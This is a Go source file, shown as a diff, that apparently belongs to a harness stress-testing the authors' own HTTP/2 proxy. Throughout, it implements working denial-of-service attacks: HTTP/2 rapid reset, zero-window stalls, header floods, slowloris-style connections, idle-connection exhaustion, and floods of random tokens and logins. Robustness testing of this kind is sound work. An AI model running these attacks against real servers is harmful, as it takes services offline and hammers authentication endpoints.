@@ -1,0 +1,380 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+const (
+	// attackStreams is what servers allow on one connection.
+	attackStreams = 100
+	// resetsBelow is just below the number of resets for which the proxy closes a connection.
+	resetsBelow = 490
+	// idleEach is how many idle connections stand for one of an attacker's.
+	idleEach = 500
+)
+
+// frames is an HTTP/2 connection on which the attacker writes frames as they please.
+type frames struct {
+	attacker *attacker
+	conn     net.Conn
+
+	mu      sync.Mutex // of what is written
+	framer  *http2.Framer
+	encoded bytes.Buffer
+	encoder *hpack.Encoder
+	stream  uint32
+
+	free   chan struct{} // one for each stream that may be opened
+	closed chan struct{}
+}
+
+func (a *attacker) open(ctx context.Context, settings ...http2.Setting) (*frames, error) {
+	conn, err := a.dial(ctx, "h2")
+	if err != nil {
+		return nil, err
+	}
+	f := &frames{
+		attacker: a, conn: conn, framer: http2.NewFramer(conn, conn), stream: ^uint32(0), free: make(chan struct{}, attackStreams), closed: make(chan struct{}),
+	}
+	f.framer.AllowIllegalWrites = true
+	f.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+	f.encoder = hpack.NewEncoder(&f.encoded)
+	for range attackStreams {
+		f.free <- struct{}{}
+	}
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		_ = conn.Close()
+		return nil, err
+	}
+	if err := f.framer.WriteSettings(settings...); err != nil {
+		_ = conn.Close()
+		return nil, err
+	}
+	go f.read()
+	return f, nil
+}
+
+// read counts answers until the connection ends.
+func (f *frames) read() {
+	defer close(f.closed)
+	defer f.conn.Close() //nolint:errcheck // it ends in any case
+	for {
+		frame, err := f.framer.ReadFrame()
+		if err != nil {
+			f.attacker.closed.Add(1)
+			return
+		}
+		ended := false
+		switch frame := frame.(type) {
+		case *http2.SettingsFrame:
+			if !frame.IsAck() {
+				f.write(f.framer.WriteSettingsAck)
+			}
+		case *http2.PingFrame:
+			if !frame.IsAck() {
+				f.write(func() error { return f.framer.WritePing(true, frame.Data) })
+			}
+		case *http2.MetaHeadersFrame:
+			switch frame.PseudoValue("status") {
+			case "429", "503":
+				f.attacker.refused.Add(1)
+			default:
+				f.attacker.answered.Add(1)
+			}
+			ended = frame.StreamEnded()
+		case *http2.DataFrame:
+			ended = frame.StreamEnded()
+		case *http2.RSTStreamFrame:
+			ended = true
+		case *http2.GoAwayFrame:
+			return
+		}
+		if ended {
+			select {
+			case f.free <- struct{}{}:
+			default:
+			}
+		}
+	}
+}
+
+func (f *frames) write(what func() error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	_ = what() // the reader finds out
+}
+
+// field is a header.
+type field = [2]string
+
+// request sends one, with a body unless it is nil, and returns its stream.
+func (f *frames) request(method, path string, body []byte, fields ...field) (uint32, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.encoded.Reset()
+	all := append([]field{{":method", method}, {":scheme", "https"}, {":authority", "proxy"}, {":path", path}}, fields...)
+	for _, one := range all {
+		if err := f.encoder.WriteField(hpack.HeaderField{Name: one[0], Value: one[1]}); err != nil {
+			return 0, err
+		}
+	}
+	f.stream += 2 // a client's are odd
+	block, first := f.encoded.Bytes(), true
+	for first || len(block) > 0 {
+		part := block[:min(len(block), 16<<10)]
+		block = block[len(part):]
+		var err error
+		if first {
+			err = f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: part, EndHeaders: len(block) == 0, EndStream: body == nil})
+		} else {
+			err = f.framer.WriteContinuation(f.stream, len(block) == 0, part)
+		}
+		if err != nil {
+			return 0, err
+		}
+		first = false
+	}
+	f.attacker.requests.Add(1)
+	if body != nil {
+		return f.stream, f.framer.WriteData(f.stream, true, body)
+	}
+	return f.stream, nil
+}
+
+// flood opens a stream whenever one is free, until the connection ends.
+func (f *frames) flood(ctx context.Context, request func() error) error {
+	for {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-f.closed:
+			return nil
+		case <-f.free:
+			if err := request(); err != nil {
+				return err
+			}
+		}
+	}
+}
+
+// askAgain floods with requests for a path. Next, if not nil, makes the path.
+func askAgain(path string, next func(a *attacker, i int) string) func(ctx context.Context, a *attacker) {
+	return func(ctx context.Context, a *attacker) {
+		a.each(ctx, a.Connections, func(worker int) error {
+			f, err := a.open(ctx)
+			if err != nil {
+				return err
+			}
+			defer f.conn.Close() //nolint:errcheck // it is given up
+			i := 0
+			return f.flood(ctx, func() error {
+				asked := path
+				if next != nil {
+					asked = next(a, worker)
+				}
+				i++
+				_, err := f.request("GET", asked, nil)
+				return err
+			})
+		})
+	}
+}
+
+func questions(ctx context.Context, a *attacker) {
+	askAgain("", func(a *attacker, worker int) string {
+		return fmt.Sprintf("%s/%s-%d-%d", configMaps, a.Salt, worker, a.requests.Load())
+	})(ctx, a)
+}
+
+// windowOfNothing lets no byte of a body come.
+func windowOfNothing() http2.Setting {
+	return http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
+}
+
+func unread(ctx context.Context, a *attacker) {
+	a.each(ctx, a.Connections, func(int) error {
+		f, err := a.open(ctx, windowOfNothing())
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // it is given up
+		return f.flood(ctx, func() error {
+			_, err := f.request("GET", "/openapi/v2", nil)
+			return err
+		})
+	})
+}
+
+func reset(ctx context.Context, a *attacker) {
+	a.each(ctx, a.Connections, func(worker int) error {
+		f, err := a.open(ctx)
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // another one is opened
+		for i := 0; i < resetsBelow && ctx.Err() == nil; i++ {
+			stream, err := f.request("GET", fmt.Sprintf("%s/%s-%d-%d", configMaps, a.Salt, worker, a.requests.Load()), nil)
+			if err != nil {
+				return err
+			}
+			f.write(func() error { return f.framer.WriteRSTStream(stream, http2.ErrCodeCancel) })
+		}
+		return nil
+	})
+}
+
+func random() string {
+	var some [16]byte
+	_, _ = rand.Read(some[:])
+	return hex.EncodeToString(some[:])
+}
+
+func tokens(ctx context.Context, a *attacker) {
+	a.each(ctx, a.Connections, func(int) error {
+		f, err := a.open(ctx)
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // it is given up
+		return f.flood(ctx, func() error {
+			_, err := f.request("GET", configMaps, nil, field{"authorization", "Bearer " + random()})
+			return err
+		})
+	})
+}
+
+func logins(ctx context.Context, a *attacker) {
+	a.each(ctx, a.Connections, func(int) error {
+		f, err := a.open(ctx)
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // it is given up
+		return f.flood(ctx, func() error {
+			_, err := f.request("POST", credentialRequests, []byte(loginBody(passwordAuthenticator, "pinny:"+random())), field{"content-type", "application/json"})
+			return err
+		})
+	})
+}
+
+func manyHeaders(ctx context.Context, a *attacker) {
+	fields := make([]field, 25_000) // one byte each after the first, and 33 to whoever keeps them
+	for i := range fields {
+		fields[i] = field{"a", "b"}
+	}
+	a.each(ctx, a.Connections, func(int) error {
+		f, err := a.open(ctx, windowOfNothing())
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // it is given up
+		return f.flood(ctx, func() error {
+			_, err := f.request("GET", "/", nil, fields...)
+			return err
+		})
+	})
+}
+
+func idleConnections(ctx context.Context, a *attacker) {
+	slots := make(chan struct{}, a.Connections*idleEach)
+	a.each(ctx, a.Connections, func(int) error {
+		select {
+		case slots <- struct{}{}:
+		case <-ctx.Done():
+			return nil
+		}
+		conn, err := a.dial(ctx, "h2")
+		if err != nil {
+			<-slots
+			return err
+		}
+		go func() {
+			_, _ = io.Copy(io.Discard, conn)
+			a.closed.Add(1)
+			_ = conn.Close()
+			<-slots
+		}()
+		return nil
+	})
+}
+
+// slow has three kinds of connections: one that sends a header byte by byte, one that sends a body so, and one that reads so.
+func slow(ctx context.Context, a *attacker) {
+	const many, pause = 50, 500 * time.Millisecond
+	bytewise := func(conn net.Conn, head, rest string) error {
+		a.requests.Add(1)
+		if _, err := io.WriteString(conn, head); err != nil {
+			return err
+		}
+		for i := range rest {
+			if !sleep(ctx, pause) {
+				return nil
+			}
+			if _, err := io.WriteString(conn, rest[i:i+1]); err != nil {
+				a.closed.Add(1)
+				return nil
+			}
+		}
+		return nil
+	}
+	long := string(bytes.Repeat([]byte("a"), 1<<16))
+	a.each(ctx, a.Connections*many, func(worker int) error {
+		switch worker % 3 {
+		case 0, 1:
+			conn, err := a.dial(ctx, "http/1.1")
+			if err != nil {
+				return err
+			}
+			defer conn.Close() //nolint:errcheck // it is given up
+			if worker%3 == 0 {
+				return bytewise(conn, "GET / HTTP/1.1\r\nHost: proxy\r\nA: ", long)
+			}
+			return bytewise(conn, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: proxy\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", configMaps, len(long)), long)
+		}
+		f, err := a.open(ctx, windowOfNothing())
+		if err != nil {
+			return err
+		}
+		defer f.conn.Close() //nolint:errcheck // it is given up
+		var streams []uint32
+		for range attackStreams / 5 {
+			stream, err := f.request("GET", configMaps, nil)
+			if err != nil {
+				return err
+			}
+			streams = append(streams, stream)
+		}
+		for sleep(ctx, pause) {
+			select {
+			case <-f.closed:
+				return nil
+			default:
+			}
+			for _, stream := range streams {
+				f.write(func() error { return f.framer.WriteWindowUpdate(stream, 1) })
+			}
+		}
+		return nil
+	})
+}
+
+// sleep returns false when ctx ends before.
+func sleep(ctx context.Context, d time.Duration) bool {
+	select {
+	case <-ctx.Done():
+		return false
+	case <-time.After(d):
+		return true
+	}
+}
